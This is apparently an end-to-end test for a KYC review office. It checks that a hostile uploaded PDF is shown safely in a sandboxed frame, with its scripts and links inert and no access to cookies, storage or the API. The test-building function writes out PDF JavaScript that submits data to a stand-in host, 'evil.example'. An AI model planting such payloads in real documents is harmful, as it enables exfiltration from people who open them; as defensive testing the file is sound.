import type { Frame } from "playwright-core";
import { expect, inject, test } from "vitest";
import { axeFinds } from "./axe.ts";
import { openSharedOffice, t } from "./operator.ts";
import { tooWide } from "./too-wide.ts";
import { screens, visit } from "./visitor.ts";

const office = await openSharedOffice();
const { browser } = office;

/** Two pages; the first is all red. Its open action is a script, a link covers the page, and its second page is far too large. */
function hostilePdf(): string {
  const red = "1 0 0 rg 0 0 300 200 re f";
  const objects = [
    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\);)>>>>",
    "<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[5 0 R]/AA<</O<</S/JavaScript/JS(app.alert\\(2\\))>>>>>>",
    `<</Length ${red.length}>>stream\n${red}\nendstream`,
    "<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(https://evil.example/)>>>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100000 100000]>>",
  ];
  let text = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj${object}endobj\n`;
    return at;
  });
  const table = offsets.map(at => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  return `${text}xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${offsets.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF`;
}

/** What a script in the frame could access. */
async function reach(frame: Frame): Promise<Record<string, string>> {
  return frame.evaluate(async () => {
    const scope = globalThis as unknown as Record<string, Record<string, unknown>>;
    const tried = async (work: () => unknown) => {
      try {
        return `got ${String(await work())}`;
      } catch (error) {
        return (error as Error).name;
      }
    };
    const call = (fetch: unknown) => (fetch as typeof globalThis.fetch)("/api/office/me", { credentials: "include" });
    return {
      origin: String(scope.origin),
      cookie: await tried(() => scope.document?.cookie),
      storage: await tried(() => scope.localStorage?.length),
      parent: await tried(() => (scope.parent?.document as { title?: string } | undefined)?.title),
      call: await tried(async () => (await call(scope.fetch)).status),
    };
  });
}

test("timur sees the first page of a hostile PDF, whose scripts and links do nothing, in a frame that can reach nothing", async () => {
  const rustam = await visit(browser, { locale: "en", screen: "desktop" });
  await rustam.register(`rustam-${Date.now()}@example.com`);
  const identity = { first_name: "Rustam", last_name: "Sadykov", birth_date: "1990-05-17" };
  await rustam.call("POST", "/api/v1/verification/identity", identity);
  const give = (kind: string, content: string) =>
    rustam.call("POST", "/api/v1/verification/documents", {
      kind,
      content: Buffer.from(content, "latin1").toString("base64"),
    });
  await give("identity", hostilePdf());
  await give("address", "%PDF-1.7 a private bill");
  const { id } = await rustam.profile();

  const { page, complaints } = await office.hire("Timur", "risk");
  const asked: string[] = [];
  page.on("request", request => void asked.push(request.url()));
  const dialogs: string[] = [];
  page.on("dialog", dialog => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(`${inject("app").office}/kyc/${id}`);
  // Nothing of it is loaded before a PDF is opened.
  await page.waitForLoadState("networkidle");
  expect(asked.filter(url => /pdf/.test(url))).toEqual([]);

  const openDocument = async (kind: string) => {
    await page
      .locator("li", { hasText: t(`kyc.${kind}`) })
      .getByRole("button", { name: t("kyc.view") })
      .click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel(t("reason")).fill("checks the case");
    await dialog.getByRole("button", { name: t("kyc.view"), exact: true }).click();
    await dialog.waitFor({ state: "detached" });
  };
  await openDocument("identity");
  await page.getByText(t("kyc.pdf_shown", { n: "2", total: "2" })).waitFor();
  const frame = page.frames().find(each => each !== page.mainFrame());
  if (!frame) throw new Error("the document has a frame");
  await frame.getByRole("img", { name: t("kyc.pdf_page", { n: "1", total: "2" }) }).waitFor();
  const colours = await frame.evaluate(() => {
    type Canvas = {
      getContext(of: string): { getImageData(...box: number[]): { data: ArrayLike<number> } };
      width: number;
    };
    const scope = globalThis as unknown as { document: { querySelectorAll(name: string): Iterable<Canvas> } };
    const [first, second] = [...scope.document.querySelectorAll("canvas")];
    return [[...Array.from(first?.getContext("2d").getImageData(50, 50, 1, 1).data ?? [])], second?.width];
  });
  expect(colours[0]).toEqual([255, 0, 0, 255]);
  expect(colours[1]).toBeLessThanOrEqual(1400);
  expect(await reach(frame)).toEqual({
    origin: "null",
    cookie: "SecurityError",
    storage: "SecurityError",
    parent: "SecurityError",
    call: "TypeError",
  });
  // The link over the page is only drawn.
  await page.locator("iframe").click({ position: { x: 60, y: 60 } });
  expect(asked.filter(url => url.includes("evil.example"))).toEqual([]);
  expect([dialogs, page.context().pages().length]).toEqual([[], 1]);
  expect(await axeFinds(page)).toEqual([]);
  await page.setViewportSize(screens.phone);
  expect(await tooWide(page)).toEqual([]);
  await page.setViewportSize(screens.desktop);

  await openDocument("address");
  await page.getByRole("alert").getByText(t("kyc.pdf_broken")).waitFor();
  const download = page.waitForEvent("download");
  const shown = page.getByRole("figure").filter({ hasText: t("kyc.address") });
  await shown.getByRole("link", { name: t("kyc.download") }).click();
  expect((await download).suggestedFilename()).toBe("address.pdf");

  // The requests that the test made from inside the frame are refused and logged; there are no others.
  const expected = /401 .*\/api\/office\/me$|Content Security Policy|\/api\/office\/me/;
  expect(complaints.filter(line => !expected.test(line))).toEqual([]);
  await page.context().close();
  await rustam.leave();
});
